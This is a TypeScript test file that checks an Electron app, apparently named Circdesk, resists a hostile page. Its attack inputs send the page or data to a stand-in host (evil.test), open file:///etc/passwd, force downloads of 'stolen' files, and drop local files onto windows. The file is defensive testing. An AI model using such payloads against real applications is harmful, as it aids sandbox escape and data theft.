// Ways out of a window: going elsewhere, opening another one, saving, dropping something in, getting at DevTools.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { press } from '../../drive/person.ts';
import { expect, test } from './attacked.ts';

const click = (properties: string) =>
  `(() => { const a = Object.assign(document.createElement('a'), ${properties}); document.body.append(a); a.click(); a.remove(); })()`;
const AWAY = 'https://evil.test/';

const LEAVES: [string, string][] = [
  ['location', `void (location.href = '${AWAY}')`],
  ['location.replace', `location.replace('${AWAY}')`],
  ['a link', click(`{ href: '${AWAY}' }`)],
  ['a link to another page of ours', click(`{ href: '/desk/index.html' }`)],
  ['a link to a file', click(`{ href: 'file:///etc/passwd' }`)],
  ['a link to another program', click(`{ href: 'ms-settings:privacy' }`)],
  ['a link that writes a letter', click(`{ href: 'mailto:eva@evil.test?body=stolen' }`)],
  ['a link to a page in its address', click(`{ href: 'data:text/html,x' }`)],
  [
    'a link to a blob',
    `(() => { const u = URL.createObjectURL(new Blob(['x'], { type: 'text/html' })); ${click('{ href: u }')} })()`,
  ],
  [
    'a meta refresh',
    `(() => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${AWAY}'; document.head.append(m); m.remove(); })()`,
  ],
  [
    'a form that gets',
    `(() => { const f = document.createElement('form'); f.action = '${AWAY}'; document.body.append(f); f.submit(); f.remove(); })()`,
  ],
  ['history', `history.go(-1)`],
  ['the navigation API', `void navigation.navigate('${AWAY}').committed.catch(() => undefined)`],
];
for (const [how, attack] of LEAVES)
  test(`a page does not leave by ${how}`, async ({ attacked: { window } }) => {
    await window.evaluate(attack);
    await window.waitForTimeout(150);
    expect(await window.locator('h1').count()).toBeGreaterThan(0);
  });

const OPENS: [string, string][] = [
  ['window.open', `String(window.open('${AWAY}'))`],
  ['window.open of nothing', `String(window.open(''))`],
  ['window.open of ours', `String(window.open('/desk/index.html', 'x', 'popup'))`],
  [
    'window.open from a frame',
    `(() => { const f = document.body.appendChild(document.createElement('iframe')); const w = f.contentWindow.open('${AWAY}'); f.remove(); return String(w); })()`,
  ],
  ['a link with a target', `${click(`{ href: '${AWAY}', target: '_blank' }`)}, 'null'`],
  [
    'a form with a target',
    `(() => { const f = Object.assign(document.createElement('form'), { action: '${AWAY}', target: '_blank' }); document.body.append(f); f.submit(); f.remove(); return 'null'; })()`,
  ],
];
for (const [how, attack] of OPENS)
  test(`no window opens by ${how}`, async ({ attacked: { desk, window } }) => {
    expect(await window.evaluate(attack)).toBe('null');
    await window.waitForTimeout(150);
    const count = await desk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
    expect(count).toBe(2);
  });

test('a shift-click and a middle click on a link open nothing', async ({ attacked: { desk, window } }) => {
  await window.evaluate((href) => {
    const link = Object.assign(document.createElement('a'), { href, id: 'bait', textContent: 'bait' });
    document.querySelector('main')?.prepend(link);
  }, AWAY);
  // The mouse itself: a locator would wait for the refused navigations of the tests before to end.
  const [x, y] = await window.evaluate(() => {
    const { left, top, width, height } =
      document.querySelector('#bait')?.getBoundingClientRect() ?? new DOMRect();
    return [left + width / 2, top + height / 2] as const;
  });
  const hit = await window.evaluate(([left, top]) => document.elementFromPoint(left, top)?.id, [
    x,
    y,
  ] as const);
  expect(hit).toBe('bait');
  for (const key of ['Shift', 'ControlOrMeta']) {
    await window.keyboard.down(key);
    await window.mouse.click(x, y);
    await window.keyboard.up(key);
  }
  await window.mouse.click(x, y, { button: 'middle' });
  await window.waitForTimeout(150);
  await window.evaluate(() => document.querySelector('#bait')?.remove());
  expect(desk.app.windows()).toHaveLength(2);
});

test('a page writes nothing on the task bar, where everybody at the counter reads it', async ({
  attacked: { desk, window },
}) => {
  await window.evaluate(() => void (document.title = 'Planted Plantedsson'));
  await window.waitForTimeout(150);
  const titles = await desk.app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((one) => one.getTitle()),
  );
  expect(titles).toEqual(['Circdesk', 'Circdesk']);
});

test('a page saves no file of its own', async ({ attacked: { folders, window } }) => {
  for (const href of ['data:text/plain,stolen', 'blob'])
    await window.evaluate((given) => {
      const made = given === 'blob' ? URL.createObjectURL(new Blob(['stolen'])) : given;
      const link = Object.assign(document.createElement('a'), { href: made, download: 'stolen.txt' });
      document.body.append(link);
      link.click();
      link.remove();
    }, href);
  await window.waitForTimeout(300);
  expect(await readdir(folders.downloads)).toEqual([]);
});

test('a file or a link that is dropped on a window goes nowhere', async ({ attacked: { desk, window } }) => {
  for (const page of [desk.desk, window]) {
    const session = await page.context().newCDPSession(page);
    const drops = [
      { items: [], files: ['/etc/hostname'], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/uri-list', data: AWAY }], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/html', data: `<a href="${AWAY}">x</a>` }], dragOperationsMask: 1 },
    ];
    for (const data of drops)
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
        await session.send('Input.dispatchDragEvent', { type, x: 400, y: 300, data });
    await page.waitForTimeout(150);
    await session.detach();
  }
});

test('a webview is an element without a page', async ({ attacked: { desk, window } }) => {
  const kind = await window.evaluate((src) => {
    const made = document.createElement('webview');
    made.setAttribute('src', src);
    made.setAttribute('nodeintegration', '');
    document.body.append(made);
    const kind = made.constructor.name;
    made.remove();
    return [kind, 'executeJavaScript' in made];
  }, AWAY);
  expect(kind).toEqual(['HTMLElement', false]);
  const count = await desk.app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
  expect(count).toBe(2);
});

test('a frame in a page can ask main nothing', async ({ attacked: { window } }) => {
  const seen = await window.evaluate(() => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const inner = frame.contentWindow as unknown as Record<string, unknown>;
    const found = ['circdesk', 'require', 'process', 'ipcRenderer'].filter((name) => name in inner);
    frame.remove();
    return found;
  });
  expect(seen).toEqual([]);
});

test('no session has a spell checker, which would fetch its dictionary from the web', async ({
  attacked: { desk },
}) => {
  const checked = await desk.app.evaluate(({ session }) =>
    [session.defaultSession, session.fromPartition('central-server')].map((one) =>
      one.isSpellCheckerEnabled(),
    ),
  );
  expect(checked).toEqual([false, false]);
});

test('there is no menu, and no key, that opens DevTools', async ({ attacked: { desk, window } }) => {
  for (const key of ['F12', 'Control+Shift+I', 'Control+Shift+J', 'Meta+Alt+I']) await press(window, key);
  const told = await desk.app.evaluate(({ Menu, webContents }) => ({
    menu: Menu.getApplicationMenu(),
    open: webContents.getAllWebContents().map((contents) => contents.isDevToolsOpened()),
  }));
  expect(told).toEqual({ menu: null, open: [false, false] });
});

test('what was refused stands in the log by its kind, and if it comes often, once', async ({
  attacked: { folders, window },
}) => {
  for (let n = 0; n < 20; n++) {
    await window.evaluate((href) => void (location.href = href), `${AWAY}?${n}-Plantedsson`);
    await window.waitForTimeout(30);
  }
  const log = await readFile(join(folders.userData, 'logs/circdesk.log'), 'utf8');
  const kinds = [...log.matchAll(/"what":"refused","of":"([^"]+)"/g)].map(([, of]) => of);
  expect(kinds).toContain('navigation');
  expect(kinds.length).toBeLessThan(10);
  expect(log).not.toMatch(/evil|Plantedsson/);
});
